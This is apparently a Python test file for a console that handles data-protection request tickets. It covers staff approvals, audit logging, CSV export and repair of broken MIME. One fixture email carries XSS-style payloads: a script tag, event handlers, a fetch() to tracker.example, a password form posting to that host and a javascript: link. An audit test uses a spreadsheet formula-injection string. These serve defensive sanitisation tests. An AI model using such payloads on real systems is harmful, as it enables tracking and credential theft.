"""A ticket in the console: staff actions, each recorded under the staff member's name; mail HTML made inert;
attachments offered as downloads only."""

from __future__ import annotations

import base64
import re
from email import policy
from email.message import EmailMessage

from sqlalchemy import select

from assistant.storage.models import Draft, Message, OutboxItem, Ticket
from tests.conftest import INBOX
from tests.support.tickets import list_tickets, show_ticket
from tests.support.web import console_app, csrf_of, make_ticket, signed_in


def hostile_html_mail() -> bytes:
    mail = EmailMessage()
    mail["From"] = "Mallory Example <mallory@example.net>"
    mail["To"] = INBOX
    mail["Subject"] = "Please delete my account"
    mail["Message-ID"] = "<hostile-1@example.net>"
    mail.set_content("Please delete my account and all my data.")
    mail.add_alternative(
        "<html><head><style>body{background:url(https://tracker.example/bg.png)}</style>"
        '<script>document.title="pwned"</script></head><body>'
        '<p onclick="steal()">Please delete my account and all my data.</p>'
        '<img src="https://tracker.example/pixel.gif" onerror="fetch(\'https://tracker.example/x\')">'
        '<form action="https://tracker.example/login"><input name="password"></form>'
        '<a href="javascript:alert(1)">click</a></body></html>',
        subtype="html",
        cte="quoted-printable",
    )
    mail.add_attachment(
        b"<html><script>alert(1)</script></html>", maintype="text", subtype="html", filename="invoice.html"
    )
    return mail.as_bytes(policy=policy.SMTP)  # CRLF line ends, as on the wire


async def post_action(http, reference: str, action: str, **fields: str | list[str]):
    page = await http.get(f"/tickets/{reference}")
    return await http.post(f"/tickets/{reference}/{action}", data={"csrf_token": csrf_of(page.text), **fields})


async def test_edit_then_approve_queues_the_edited_text_under_the_staff_name(config, db) -> None:
    reference = await make_ticket(db, body="Dear Jo,\n\nWe will delete it.")
    async with signed_in(console_app(config, db), db, "alice") as http:
        done = await post_action(http, reference, "approve", body="Dear Jo,\r\n\r\nWe deleted your account today.")
        assert done.status_code == 303 and done.headers["location"] == f"/tickets/{reference}?done=approve"
        page = (await http.get(done.headers["location"])).text
    assert "Reply approved; it is being sent." in page
    async with db.session() as session:
        item = (await session.execute(select(OutboxItem))).scalar_one()
        draft = (await session.execute(select(Draft))).scalar_one()
    assert b"We deleted your account today." in item.raw.replace(b"=\r\n", b"")
    assert draft.body == "Dear Jo,\n\nWe deleted your account today."  # CRLF from the form kept as LF
    assert (draft.status, draft.edited_by, draft.decided_by) == ("approved", "alice", "alice")
    detail = await show_ticket(db, reference)
    kinds = [(e["actor"], e["kind"]) for e in detail["events"]]
    assert ("alice", "draft_edited") in kinds and ("alice", "draft_approved") in kinds
    assert "alice" in page and "Draft approved" in page  # on the timeline


async def test_approval_is_refused_while_placeholders_remain_and_the_text_is_kept(config, db) -> None:
    reference = await make_ticket(db, body="Dear Jo,\n\nYour order [[STAFF: order number]] is deleted.")
    async with signed_in(console_app(config, db), db, "alice") as http:
        page = await http.get(f"/tickets/{reference}")
        assert "Fill in before approving" in page.text
        refused = await post_action(http, reference, "approve", body="Still [[STAFF: order number]] here, edited")
    assert refused.status_code == 409
    assert "placeholders remain" in refused.text and "Still [[STAFF: order number]] here, edited" in refused.text
    async with db.session() as session:
        assert (await session.execute(select(OutboxItem))).first() is None
        assert (await session.execute(select(Draft.status))).scalar_one() == "pending"  # nothing half-done


async def test_reject_needs_a_reason_and_records_it(config, db) -> None:
    reference = await make_ticket(db)
    async with signed_in(console_app(config, db), db, "bob") as http:
        assert (await post_action(http, reference, "reject", reason="  ")).status_code == 409
        assert (await post_action(http, reference, "reject", reason="wrong language")).status_code == 303
    detail = await show_ticket(db, reference)
    assert detail["drafts"][-1]["status"] == "rejected" and detail["drafts"][-1]["reason"] == "wrong language"
    assert {
        "at": detail["events"][-2]["at"],
        "actor": "bob",
        "kind": "draft_rejected",
        "detail": "wrong language",
    } in detail["events"]


async def test_extend_the_deadline_by_two_months_with_a_reason(config, db) -> None:
    reference = await make_ticket(db)
    before = (await show_ticket(db, reference))["due_at"]
    async with signed_in(console_app(config, db), db, "alice") as http:
        assert (await post_action(http, reference, "extend", months="2", reason="")).status_code == 409
        assert (
            await post_action(http, reference, "extend", months="2", reason="many requests at once")
        ).status_code == 303
    detail = await show_ticket(db, reference)
    assert detail["due_at"] > before and detail["extended_months"] == 2
    [event] = [event for event in detail["events"] if event["kind"] == "deadline_extended"]
    assert event["actor"] == "alice" and ": many requests at once;" in event["detail"]
    assert detail["drafts"][-1]["kind"] == "extension_notice"  # the requester must be told (Art. 12(3))


async def test_merge_moves_the_messages_and_closes_the_duplicate(config, db, service) -> None:
    for number in (1, 2):
        raw = (
            f"From: Jo <jo@example.com>\r\nTo: {INBOX}\r\nSubject: delete my data {number}\r\n"
            f"Message-ID: <dup-{number}@example.com>\r\n\r\nPlease delete all my personal data.\r\n"
        ).encode()
        await service.send_async(raw)
    await service.settle()
    first, second = [t["reference"] for t in await list_tickets(db)]
    async with signed_in(console_app(config, db), db, "alice") as http:
        done = await post_action(http, second, "merge", into=first)
        assert done.headers["location"] == f"/tickets/{first}?done=merge"
        assert (await post_action(http, first, "merge", into=first)).status_code == 409
    kept, merged = await show_ticket(db, first), await show_ticket(db, second)
    assert len(kept["messages"]) == 2 and merged["messages"] == []
    assert merged["status"] == "closed" and merged["linked_ticket"] == first
    assert all(d["status"] != "pending" for d in merged["drafts"])
    assert ("alice", "merged_from") in [(e["actor"], e["kind"]) for e in kept["events"]]


async def test_reclassify_writes_a_new_draft_for_the_new_intents(config, db, service) -> None:
    raw = (
        f"From: Jo <jo@example.com>\r\nTo: {INBOX}\r\nSubject: my data\r\nMessage-ID: <rc@example.com>\r\n\r\n"
        "Please delete all my personal data from your systems.\r\n"
    ).encode()
    await service.send_async(raw)
    await service.settle()
    reference = (await list_tickets(db))[0]["reference"]
    before = await show_ticket(db, reference)
    async with signed_in(console_app(config, db), db, "carol") as http:
        done = await post_action(http, reference, "reclassify", intents=["access"], primary="access")
        assert done.status_code == 303
    after = await show_ticket(db, reference)
    assert after["intents"] == ["access"] and after["status"] == "awaiting_approval"
    assert len(after["drafts"]) == len(before["drafts"]) + 1
    assert after["drafts"][-1]["status"] == "pending" and after["drafts"][-1]["intents"] == ["access"]
    assert after["drafts"][-1]["body"] != before["drafts"][-1]["body"]
    assert before["drafts"][-1]["id"] in [d["id"] for d in after["drafts"] if d["status"] == "superseded"]
    assert ("carol", "reclassified") in [(e["actor"], e["kind"]) for e in after["events"]]


async def test_close_withdraws_the_pending_draft(config, db) -> None:
    reference = await make_ticket(db)
    async with signed_in(console_app(config, db), db, "alice") as http:
        assert (await post_action(http, reference, "close", reason="sent by post")).status_code == 303
        page = (await http.get(f"/tickets/{reference}")).text
        assert (await post_action(http, reference, "approve", body="x")).status_code == 409
    detail = await show_ticket(db, reference)
    assert detail["status"] == "closed" and detail["drafts"][-1]["status"] == "superseded"
    assert "Approve and send" not in page


async def test_mail_html_is_shown_as_text_and_its_html_only_sanitised_in_a_sandbox(config, db, service) -> None:
    code, reply = await service.send_async(hostile_html_mail())
    assert code == 250, reply
    await service.settle()
    tickets = await list_tickets(db)
    assert tickets, "no ticket"
    reference = tickets[0]["reference"]
    async with db.session() as session:
        message_id = (await session.execute(select(Message.id))).scalar_one()
    async with signed_in(console_app(config, db), db, "alice") as http:
        page = (await http.get(f"/tickets/{reference}")).text
        frame = await http.get(f"/tickets/{reference}/messages/{message_id}/html")
        download = await http.get(f"/tickets/{reference}/messages/{message_id}/attachments/0")
    assert "Please delete my account and all my data." in page
    assert "tracker.example" not in page and "<script>document" not in page
    assert (
        '<iframe sandbox="" referrerpolicy="no-referrer" loading="lazy" title="The message&#39;s HTML version" '
        f'src="/tickets/{reference}' in page
    )
    body = frame.text.lower()
    for forbidden in ("<script", "onerror", "onclick", "<form", "<input", "<style", "tracker.example", "javascript:"):
        assert forbidden not in body, forbidden
    assert "please delete my account" in body
    policy = frame.headers["content-security-policy"]
    assert policy.startswith("default-src 'none'; img-src data: cid:") and "sandbox" in policy
    assert download.status_code == 200 and download.content == b"<html><script>alert(1)</script></html>"
    assert download.headers["content-type"] == "application/octet-stream"
    assert download.headers["content-disposition"].startswith('attachment; filename="invoice.html"')
    assert download.headers["x-content-type-options"] == "nosniff"


async def test_an_unknown_ticket_is_a_404_page(config, db) -> None:
    async with signed_in(console_app(config, db), db, "alice") as http:
        response = await http.get("/tickets/PRIV-2026-999999")
    assert response.status_code == 404 and "There is no ticket PRIV-2026-999999." in response.text


async def test_audit_log_filters_and_exports_csv(config, db) -> None:
    reference = await make_ticket(db)
    await make_ticket(db)
    async with signed_in(console_app(config, db), db, "ada", "admin") as http:
        await post_action(http, reference, "reject", reason='=HYPERLINK("http://x")')
        page = (await http.get("/audit?actor=ada")).text
        export = await http.get("/audit.csv?actor=ada")
        everything = await http.get("/audit.csv")
    assert '<span class="tag">draft rejected</span>' in page
    assert '<span class="tag">ticket opened</span>' not in page  # the system opened them, not ada
    lines = export.text.strip().splitlines()
    assert lines[0] == "at,actor,kind,ticket,detail"
    assert {line.split(",")[2] for line in lines[1:]} == {"draft_rejected", "status_changed"}
    assert "'=HYPERLINK" in export.text  # a spreadsheet will not run it as a formula
    assert export.headers["content-disposition"] == 'attachment; filename="audit-log.csv"'
    async with db.session() as session:
        tickets = len((await session.execute(select(Ticket.id))).all())
    assert everything.text.count("ticket_opened") == tickets


def broken_boundary_mail() -> bytes:
    """Content-Type names a boundary the body never uses (a mangling gateway): the parser repairs it."""
    pdf = base64.encodebytes(b"%PDF-1.4 signed consent form").decode()
    return (
        "From: Ines Martin <ines.martin@example.fr>\r\nTo: " + INBOX + "\r\n"
        "Subject: Suppression de mes donnees\r\nMessage-ID: <broken-boundary-1@example.fr>\r\n"
        'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="declared-but-absent"\r\n\r\n'
        "--real-boundary\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        "Merci de supprimer mon compte. Le formulaire signe est joint.\r\n"
        "--real-boundary\r\nContent-Type: application/pdf; name=\"consent form.pdf\"\r\n"
        "Content-Disposition: attachment; filename=\"consent form.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + pdf.replace("\n", "\r\n") +
        "--real-boundary\r\nContent-Type: text/csv; charset=utf-8\r\n"
        "Content-Disposition: attachment; filename=\"orders.csv\"\r\n\r\n"
        "order,date\r\n4711,2026-01-05\r\n"
        "--real-boundary--\r\n"
    ).encode()


async def test_a_broken_boundary_lists_and_serves_the_attachments_the_parser_stored(config, db, service) -> None:
    # issue 10: the console walked MIME itself and, unlike the parser, did not repair the boundary
    code, reply = await service.send_async(broken_boundary_mail())
    assert code == 250, reply
    await service.settle()
    reference = (await list_tickets(db))[0]["reference"]
    async with db.session() as session:
        message = (await session.execute(select(Message))).scalar_one()
    assert [item["filename"] for item in message.attachments] == ["consent form.pdf", "orders.csv"]
    assert any("boundary" in defect for defect in message.defects)
    async with signed_in(console_app(config, db), db, "alice") as http:
        page = (await http.get(f"/tickets/{reference}")).text
        downloads = [await http.get(f"/tickets/{reference}/messages/{message.id}/attachments/{index}")
                     for index in range(3)]
    listed = re.findall(rf'href="/tickets/{reference}/messages/{message.id}/attachments/(\d+)" download>([^<]*)</a>',
                        page)
    assert listed == [("0", "consent form.pdf"), ("1", "orders.csv")]
    assert "Merci de supprimer mon compte." in page
    assert [download.status_code for download in downloads] == [200, 200, 404]
    assert downloads[0].content == b"%PDF-1.4 signed consent form"
    assert downloads[1].content.replace(b"\r\n", b"\n") == b"order,date\n4711,2026-01-05"  # the CRLF ends the part
    assert [len(download.content) for download in downloads[:2]] == [item["size"] for item in message.attachments]
    assert "filename*=UTF-8''consent%20form.pdf" in downloads[0].headers["content-disposition"]
